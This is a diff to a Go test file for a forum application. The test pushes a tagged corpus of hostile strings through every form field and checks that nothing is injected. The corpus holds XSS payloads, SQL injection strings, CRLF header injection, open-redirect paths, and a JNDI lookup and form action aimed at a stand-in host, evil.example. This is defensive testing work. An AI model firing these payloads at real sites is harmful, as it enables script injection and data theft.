@@ -3,6 +3,7 @@ package handlers_test
 import (
 	"context"
 	"encoding/json"
+	"fmt"
 	"net/http"
 	"net/url"
 	"os"
@@ -11,6 +12,7 @@ import (
 	"strings"
 	"testing"
 	"time"
+	"unicode"
 	"unicode/utf8"
 
 	"golang.org/x/net/html"
@@ -18,39 +20,114 @@ import (
 	"hiroba/app"
 	"hiroba/handlers"
 	"hiroba/handlers/ratelimit"
+	"hiroba/migrations"
 	"hiroba/models/modeltest"
 )
 
+// hostileInput is one string of the corpus, its place in the whole corpus
+// (which names it in failures) and the kind of trouble it brings.
+type hostileInput struct {
+	index int
+	kind  string
+	text  string
+	// everywhere keeps the string in every sample: each such string
+	// stresses storage or search in a way of its own.
+	everywhere bool
+}
+
 // hostileStrings is the Big List of Naughty Strings plus injection payloads
 // aimed at each context a string can land in, and inputs of absurd shape.
-func hostileStrings(t *testing.T) []string {
+func hostileStrings(t *testing.T) []hostileInput {
 	t.Helper()
 	buf, err := os.ReadFile("testdata/blns/blns.json")
 	if err != nil {
 		t.Fatal(err)
 	}
-	var list []string
-	if err := json.Unmarshal(buf, &list); err != nil {
+	var blns []string
+	if err := json.Unmarshal(buf, &blns); err != nil {
 		t.Fatal(err)
 	}
-	list = append(list,
-		// Markdown
+	var list []hostileInput
+	add := func(kind string, texts ...string) {
+		for _, s := range texts {
+			list = append(list, hostileInput{index: len(list), kind: kind, text: s, everywhere: kind == "shapes"})
+		}
+	}
+	for _, s := range blns {
+		add(naughtyKind(s), s)
+	}
+	add("markdown",
 		"[click](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
 		"![x](javascript:alert(1))", "![x](x\" onerror=\"alert(1))", "<https://example.com/\"onmouseover=\"alert(1)>",
-		"[x](vbscript:msgbox(1))", "```html\n<script>alert(1)</script>\n```",
-		// HTML
+		"[x](vbscript:msgbox(1))", "```html\n<script>alert(1)</script>\n```")
+	add("HTML",
 		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
 		"<iframe src=javascript:alert(1)></iframe>", "<object data=javascript:alert(1)>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
 		"<a href=\"javascript:alert(1)\">x</a>", "<div style=\"background:url(javascript:alert(1))\">x</div>", "<style>*{display:none}</style>",
-		"<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<base href=\"https://evil.example/\">", "<form action=https://evil.example><button>x</button></form>",
-		// Attribute and URL contexts
+		"<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<base href=\"https://evil.example/\">", "<form action=https://evil.example><button>x</button></form>")
+	add("attribute and URL contexts",
 		"\" onfocus=\"alert(1)\" autofocus=\"", "' onfocus='alert(1)' autofocus='", "\"><script>alert(1)</script>", "javascript:alert(1)",
-		"//evil.example", "/\\evil.example", "%0d%0aSet-Cookie:x=1", "\r\nSet-Cookie: x=1",
-		// Shapes
+		"//evil.example", "/\\evil.example", "%0d%0aSet-Cookie:x=1", "\r\nSet-Cookie: x=1")
+	add("shapes",
 		strings.Repeat("A", 1<<20), strings.Repeat("請", 60000), "\xff\xfe\xfd", "ok\x00nul", "\u202eevil\u202c", "\u200b\u200b\u200b",
-		"'; DROP TABLE posts; --", "%_\\", "1' OR '1'='1", "${jndi:ldap://evil.example/x}", "{{.}}", "{{template \"x\"}}",
-	)
+		"'; DROP TABLE posts; --", "%_\\", "1' OR '1'='1", "${jndi:ldap://evil.example/x}", "{{.}}", "{{template \"x\"}}")
 	return list
+}
+
+// naughtyKind sorts a string of the Big List by what it tries first, so a
+// sample can hold every kind: broken encodings and control characters, then
+// markup and code, then the unusual parts of Unicode, then the rest.
+func naughtyKind(s string) string {
+	has := func(f func(rune) bool) bool { return strings.ContainsFunc(s, f) }
+	lower := strings.ToLower(s)
+	switch {
+	case !utf8.ValidString(s):
+		return "invalid UTF-8"
+	case strings.TrimSpace(s) == "":
+		return "blank"
+	case has(func(r rune) bool { return unicode.IsControl(r) && !strings.ContainsRune("\t\r\n", r) }):
+		return "control characters"
+	case strings.ContainsAny(s, "<>＜＞"):
+		return "markup"
+	case strings.Contains(lower, "script:") || strings.Contains(lower, "alert("):
+		return "script"
+	case strings.Contains(s, "{{") || strings.Contains(s, "${") || strings.Contains(s, "$(") || strings.Contains(s, "`"):
+		return "template and shell"
+	case strings.ContainsAny(s, "'\";"):
+		return "quotes and SQL"
+	case strings.ContainsAny(s, "/\\%$:"):
+		return "paths and formats"
+	case has(func(r rune) bool { return unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp) }):
+		return "invisible and bidirectional"
+	case has(unicode.IsMark):
+		return "combining marks"
+	case has(unicode.IsSymbol):
+		return "symbols and emoji"
+	case has(func(r rune) bool { return r >= utf8.RuneSelf }):
+		return "other scripts"
+	case has(unicode.IsDigit):
+		return "numbers"
+	default:
+		return "words"
+	}
+}
+
+// hostileSampleStep is how sparsely the second database samples the corpus.
+const hostileSampleStep = 5
+
+// sampleEachKind keeps the first of every kind and every step'th after it,
+// in corpus order, and the strings meant for everywhere: the same strings
+// every run, so a failure reproduces.
+func sampleEachKind(corpus []hostileInput, step int) []hostileInput {
+	seen := map[string]int{}
+	var sample []hostileInput
+	for _, in := range corpus {
+		if in.everywhere || seen[in.kind]%step == 0 {
+			sample = append(sample, in)
+		}
+		seen[in.kind]++
+	}
+	return sample
 }
 
 // injected reports elements or attributes in a page that no template wrote:
@@ -122,18 +199,39 @@ func unlimited(c *app.Config) {
 	c.Limits = handlers.Limits{Post: huge("post"), PostIP: huge("post-ip"), Flag: huge("flag"), Vote: huge("vote"), Search: huge("search"), SignIn: huge("signin")}
 }
 
+// hostileParts is how many forums of its own each database's share of the
+// corpus is dealt to, so that the parts run side by side.
+const hostileParts = 4
+
+// The whole corpus goes through SQLite, the quicker database; PostgreSQL
+// takes a sample that holds every kind of string in the corpus.
 func TestHostileInputBreaksNothing(t *testing.T) {
+	t.Parallel()
 	for _, d := range modeltest.Dialects {
 		t.Run(d, func(t *testing.T) {
 			t.Parallel()
-			hostileRun(t, newForumWith(t, d, unlimited))
+			corpus := hostileStrings(t)
+			if d != migrations.SQLite {
+				corpus = sampleEachKind(corpus, hostileSampleStep)
+			}
+			for part := range hostileParts {
+				// Dealt in turn, so each part gets its share of every kind
+				// and of the absurd shapes at the end.
+				var share []hostileInput
+				for i := part; i < len(corpus); i += hostileParts {
+					share = append(share, corpus[i])
+				}
+				t.Run(fmt.Sprintf("part %d of %d", part+1, hostileParts), func(t *testing.T) {
+					t.Parallel()
+					hostileRun(t, newForumWith(t, d, unlimited), share)
+				})
+			}
 		})
 	}
 }
 
-func hostileRun(t *testing.T, f *forum) {
+func hostileRun(t *testing.T, f *forum, corpus []hostileInput) {
 	{
-		corpus := hostileStrings(t)
 		b := f.browser()
 		b.signIn("hostile")
 		b.get("/new")
@@ -150,8 +248,11 @@ func hostileRun(t *testing.T, f *forum) {
 				t.Errorf("%s: page carries an injected %s", what, bad)
 			}
 		}
-		for i, s := range corpus {
-			name := "string " + strconv.Itoa(i)
+		kinds := map[string]bool{}
+		for _, in := range corpus {
+			s := in.text
+			kinds[in.kind] = true
+			name := "string " + strconv.Itoa(in.index) + " (" + in.kind + ")"
 			// The composer: title and body.
 			title := "Question " + s
 			if len(s) > 1000 {
@@ -222,7 +323,7 @@ func hostileRun(t *testing.T, f *forum) {
 			dev.get("/login")
 			check(name+" dev sign-in", dev.post("/auth/dev", url.Values{"username": {s}}))
 		}
-		t.Logf("%d hostile strings through %d fields and parameters: %d stored and round-tripped, %d refused with a reason", len(corpus), fields/len(corpus), stored, refused)
+		t.Logf("%d hostile strings of %d kinds through %d fields and parameters: %d stored and round-tripped, %d refused with a reason", len(corpus), len(kinds), fields/len(corpus), stored, refused)
 	}
 }
 
